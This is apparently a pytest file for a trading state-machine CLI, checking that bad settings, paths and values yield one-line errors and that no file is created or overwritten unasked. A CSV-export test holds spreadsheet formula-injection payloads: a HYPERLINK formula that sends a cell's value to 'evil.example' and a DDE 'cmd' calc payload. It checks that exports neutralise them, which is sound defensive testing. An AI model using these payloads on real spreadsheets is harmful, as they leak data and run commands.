"""Bad files, settings and paths given to the command: one line naming them and a documented
exit code, never a traceback; files are neither created nor overwritten unasked."""

from __future__ import annotations

import csv
import io
import os

import pytest
from starlette.testclient import TestClient

from tests.cli.conftest import Cli, one_line_error
from tests.console.conftest import console_for


def test_a_config_file_that_is_not_text_or_is_a_folder_is_named(cli: Cli) -> None:
    config = cli.folder / "tradefsm.toml"
    config.write_bytes(b"\xff\xfe")
    line = one_line_error(cli("runs", "list", code=2))
    assert "tradefsm.toml" in line
    assert "UTF-8" in line
    config.unlink()
    config.mkdir()
    assert "tradefsm.toml is a folder" in one_line_error(cli("runs", "list", code=2))
    folder = cli.folder / "settings"
    folder.mkdir()
    line = one_line_error(cli("--config", str(folder), "runs", "list", code=2))
    assert f"--config {folder} is a folder" in line


@pytest.mark.parametrize("how", ["environment", "flag", "file"])
def test_an_unknown_log_level_names_the_setting_and_the_levels(cli: Cli, how: str) -> None:
    if how == "flag":
        done = cli("--log-level", "LOUD", "runs", "list", code=2)
        name = "--log-level"
    elif how == "file":
        (cli.folder / "tradefsm.toml").write_text('log_level = "LOUD"\n', encoding="utf-8")
        done = cli("runs", "list", code=2)
        name = "log_level in tradefsm.toml"
    else:
        done = cli("runs", "list", code=2, env_extra={"TRADEFSM_LOG_LEVEL": "LOUD"})
        name = "TRADEFSM_LOG_LEVEL"
    line = one_line_error(done)
    assert name in line
    assert "'LOUD'" in line
    assert "DEBUG, INFO, WARNING, ERROR, CRITICAL" in line
    assert cli("--log-level", "debug", "failpoints").returncode == 0


def test_the_log_level_in_the_settings_file_is_used_below_the_environment(cli: Cli) -> None:
    (cli.folder / "tradefsm.toml").write_text('log_level = "error"\n', encoding="utf-8")
    cli.upgrade()
    assert '"level": "info"' not in cli("run", "--mode", "dry-run").stderr
    louder = cli("run", "--mode", "dry-run", env_extra={"TRADEFSM_LOG_LEVEL": "INFO"})
    assert '"level": "info"' in louder.stderr


@pytest.mark.parametrize(
    ("toml", "named"),
    [
        ("lease_seconds = true\n", "invalid setting lease_seconds: a value, not true or false"),
        ("lease_seconds = 3\nlease_renew_seconds = 2\n", "invalid settings: lease_renew_seconds 2"),
    ],
)
def test_settings_that_cannot_be_meant_are_one_line(cli: Cli, toml: str, named: str) -> None:
    (cli.folder / "tradefsm.toml").write_text(toml, encoding="utf-8")
    line = one_line_error(cli("runs", "list", code=2))
    assert named in line
    assert "TRADEFSM_SETTINGS" not in line


def test_keygen_into_a_path_it_cannot_use_is_one_line(cli: Cli) -> None:
    afile = cli.folder / "afile"
    afile.write_text("not a folder\n", encoding="utf-8")
    line = one_line_error(cli("audit", "keygen", "--out", str(afile), code=2))
    assert f"{afile} is not a folder" in line
    line = one_line_error(cli("audit", "keygen", "--out", str(afile / "keys"), code=2))
    assert f"cannot create the key folder {afile / 'keys'}" in line


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_keygen_into_a_read_only_folder_is_one_line(cli: Cli) -> None:
    locked = cli.folder / "locked"
    locked.mkdir(mode=0o555)
    try:
        line = one_line_error(cli("audit", "keygen", "--out", str(locked / "keys"), code=2))
    finally:
        locked.chmod(0o755)
    assert "cannot create the key folder" in line


def test_keygen_overwrites_neither_key_of_a_pair(cli: Cli) -> None:
    keys = cli.folder / "keys"
    for lost, kept in (("key", "pub"), ("pub", "key")):
        cli("audit", "keygen", "--out", str(keys))
        left = keys / f"tradefsm-audit.{kept}"
        content = left.read_bytes()
        (keys / f"tradefsm-audit.{lost}").unlink()
        line = one_line_error(cli("audit", "keygen", "--out", str(keys), code=2))
        assert f"tradefsm-audit.{kept} exists" in line
        assert left.read_bytes() == content
        assert not (keys / f"tradefsm-audit.{lost}").exists()
        left.unlink()


ALPACA = {"TRADEFSM_BROKER": "alpaca", "TRADEFSM_ALPACA_API_KEY": "k",
          "TRADEFSM_ALPACA_SECRET_KEY": "s"}  # fmt: skip


@pytest.mark.parametrize("url", ["not-a-url", "ftp://broker.example", "https://"])
def test_a_malformed_broker_url_is_a_settings_error(cli: Cli, url: str) -> None:
    env = ALPACA | {"TRADEFSM_ALPACA_BASE_URL": url}
    line = one_line_error(cli("broker", "check", code=2, env_extra=env))
    assert "TRADEFSM_ALPACA_BASE_URL" in line
    assert "http" in line


def test_an_unreachable_broker_is_named_by_its_url(cli: Cli) -> None:
    env = ALPACA | {"TRADEFSM_ALPACA_BASE_URL": "http://127.0.0.1:9"}
    line = one_line_error(cli("broker", "check", code=6, env_extra=env))
    assert "http://127.0.0.1:9" in line


@pytest.mark.parametrize("cash", ["1e400", "1e13", "NaN", "-1", "Infinity", "lots"])
def test_paper_cash_out_of_bounds_is_refused_at_reset(ready: Cli, cash: str) -> None:
    line = one_line_error(ready("paper", "reset", "--cash", cash, code=2))
    assert "--cash" in line
    assert "1,000,000,000,000" in line
    ready("run", "--mode", "paper")  # the account kept its cash: runs still work


def test_paper_cash_at_the_bound_is_planned_without_a_crash(ready: Cli) -> None:
    ready("paper", "reset", "--cash", "1000000000000")
    done = ready("run", "--mode", "paper", code=1)  # the risk limits refuse such a plan
    assert "GuardRejected" in done.stdout
    assert "StepCrashed" not in done.stdout


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _rejected_with(cli: Cli, *reasons: str) -> None:
    """Plans rejected with reasons (free text a person types) that look like formulas."""
    cli.upgrade()
    waits = {"TRADEFSM_APPROVAL_NOTIONAL": "1"}
    for n, reason in enumerate(reasons):
        run = cli.json("run", "--account", f"a{n}", "--json", code=9, env_extra=waits)
        cli("reject", run["run_id"], "--actor", "risk-bob", "--reason", reason)
    cli("run", "--mode", "live", code=1)  # and a refused transition


def test_csv_exports_neutralise_formulas(cli: Cli) -> None:
    formulas = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")
    _rejected_with(cli, *formulas)
    for command in (("audit", "rejected"), ("audit", "transitions"), ("runs", "list")):
        cells = _csv_cells(cli(*command, "--format", "csv").stdout)
        assert not any(c[:1] in ("=", "+", "@", "\t") for c in cells)
        if command[1] == "transitions":
            assert {"'" + formula for formula in formulas} <= set(cells)
    numbers = cli("audit", "time-in-state", "--format", "csv").stdout
    assert "'" not in numbers


class FormulaAudit:
    """Audit queries answering one refused row whose text is a formula (as a history
    written before actor names were restricted may hold)."""

    def rejected(self, _query: object) -> list[dict[str, str]]:
        return [{"occurred_at": "2026-01-01T00:00:00Z", "run_id": "run_1", "seq": "2",
                 "event": "start", "source": "idle", "guard": "g", "reason": FORMULA,
                 "actor": FORMULA}]  # fmt: skip


def test_the_console_csv_download_neutralises_formulas(cli: Cli) -> None:
    cli.upgrade()
    console = console_for(cli.env["TRADEFSM_DB"])
    console.audit = FormulaAudit()  # type: ignore[assignment]
    cells = _csv_cells(TestClient(console.app()).get("/refused?format=csv").text)
    assert cells.count("'" + FORMULA) == 2
    assert FORMULA not in cells


def test_an_existing_output_file_needs_force(ready: Cli) -> None:
    run_id = ready.json("run", "--mode", "dry-run", "--json")["run_id"]
    for command in (("audit", "export", "--run", run_id), ("diagram", "--format", "dot")):
        kept = ready.folder / "kept.txt"
        kept.write_text("keep me\n", encoding="utf-8")
        line = one_line_error(ready(*command, "--output", str(kept), code=2))
        assert f"--output {kept} exists: add --force" in line
        assert kept.read_text(encoding="utf-8") == "keep me\n"
        ready(*command, "--output", str(kept), "--force")
        assert kept.read_text(encoding="utf-8") != "keep me\n"
    link = ready.folder / "link.json"
    link.symlink_to(ready.folder / "elsewhere.json")  # pointing nowhere: not a free name
    line = one_line_error(ready("audit", "export", "--run", run_id, "--output", str(link), code=2))
    assert f"--output {link} is a link" in line
    assert not (ready.folder / "elsewhere.json").exists()


READS = (("run",), ("resume", "--all"), ("runs", "list"), ("audit", "verify"),
         ("audit", "rejected"), ("db", "check"), ("db", "current"), ("diagram", "--run", "run_x"),
         ("console",))  # fmt: skip


@pytest.mark.parametrize("command", READS, ids=" ".join)
def test_a_missing_database_is_not_created(cli: Cli, command: tuple[str, ...]) -> None:
    fresh = cli.folder / "fresh.db"
    done = cli(*command, "--db", f"sqlite:///{fresh}", code=3)
    assert "tradefsm db upgrade" in one_line_error(done)
    assert not fresh.exists()
    assert not list(cli.folder.iterdir())


def test_a_database_url_naming_a_folder_says_so(cli: Cli) -> None:
    folder = cli.folder / "data"
    folder.mkdir()
    for command in (("runs", "list"), ("db", "upgrade")):
        line = one_line_error(cli(*command, "--db", f"sqlite:///{folder}", code=2))
        assert f"{folder} is a folder: name the SQLite database file in it" in line


@pytest.mark.parametrize(
    ("variable", "value"),
    [("TRADEFSM_EXECUTION_TIMEOUT_SECONDS", "1e12"), ("TRADEFSM_STEP_TIMEOUT_SECONDS", "inf"),
     ("TRADEFSM_LEASE_SECONDS", "nan"), ("TRADEFSM_RUN_DEADLINE_SECONDS", "1e12"),
     ("TRADEFSM_APPROVAL_TIMEOUT_SECONDS", "1e400")],
)  # fmt: skip
def test_a_duration_beyond_its_bound_is_refused_before_any_run(
    ready: Cli, variable: str, value: str
) -> None:
    line = one_line_error(ready("run", code=2, env_extra={variable: value}))
    assert variable in line
    assert "less than or equal to" in line
    assert ready.json("runs", "list", "--format", "json") == []
